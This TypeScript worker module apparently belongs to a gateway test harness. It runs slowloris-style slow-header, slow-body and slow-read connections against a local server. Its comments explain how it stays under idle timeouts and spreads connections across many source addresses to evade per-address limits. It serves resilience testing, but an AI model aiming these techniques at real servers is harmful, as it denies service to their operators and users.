/** A thread that holds slow connections to a front, opens a new one for each that is closed, and tells how each one ended. */
import { connect, type Socket } from 'node:net'
import { parentPort, workerData } from 'node:worker_threads'

export type AttackKind = 'slow head' | 'silent body' | 'slow body' | 'slow read'

export interface AttackPlan {
  readonly port: number
  readonly connections: Readonly<Record<AttackKind, number>>
  readonly rampMs: number
}

/** How one connection ended. */
export interface AttackEnd {
  readonly kind: AttackKind
  readonly heldMs: number
  /** 0 = closed without an answer. */
  readonly status: number
}

/** Between two bytes: less than any idle limit, so that only a clock on the whole finds them. */
const trickleMs = 1_000
const { port, connections, rampMs } = workerData as AttackPlan
const open = new Set<Socket>()
let over = false

const firstBytes: Readonly<Record<AttackKind, string>> = {
  'slow head': 'GET /v1/x HTTP/1.1\r\nHost: api.example.com\r\n',
  'silent body': 'POST /upload/x HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 1000000\r\n\r\nx',
  'slow body': 'POST /upload/x HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 1000000\r\n\r\nx',
  'slow read': 'GET /upload/big HTTP/1.1\r\nHost: api.example.com\r\n\r\n',
}
const trickles: Readonly<Record<AttackKind, string>> = {
  'slow head': 'X-A: b\r\n',
  'silent body': '',
  'slow body': 'x',
  // Sent while it reads nothing: empty lines before a next request, which restart a socket's own time-out.
  'slow read': '\r\n',
}

function hold(kind: AttackKind, address: string): void {
  if (over) return
  const socket = connect({ port, host: '127.0.0.1', localAddress: address, noDelay: true })
  const begun = performance.now()
  let status = 0
  open.add(socket)
  socket.write(firstBytes[kind])
  const trickle = setInterval(() => socket.writable && socket.write(trickles[kind]), trickleMs)
  if (kind === 'slow read') socket.pause()
  socket.on('data', (chunk) => {
    status ||= Number(/^HTTP\/1\.1 (\d{3})/.exec(chunk.toString('latin1'))?.[1] ?? 0)
  })
  socket.on('end', () => socket.destroy())
  socket.on('error', () => {})
  socket.once('close', () => {
    clearInterval(trickle)
    open.delete(socket)
    if (over) return
    parentPort?.postMessage({ kind, heldMs: performance.now() - begun, status } satisfies AttackEnd)
    // An overloaded gateway refuses at once: asking again at once would be another attack than the one that is measured.
    setTimeout(hold, status === 503 ? 500 : 0, kind, address)
  })
}

const all = (Object.entries(connections) as [AttackKind, number][]).flatMap(([kind, wanted]) =>
  Array<AttackKind>(wanted).fill(kind),
)
// Many senders, as an attack has: one address alone has no more connections than its limit.
for (const [at, kind] of all.entries())
  setTimeout(hold, ((at * 7_919) % all.length) * (rampMs / all.length), kind, `127.0.2.${1 + (at % 200)}`)

parentPort?.once('message', () => {
  over = true
  for (const socket of open) socket.destroy()
  parentPort?.close()
})
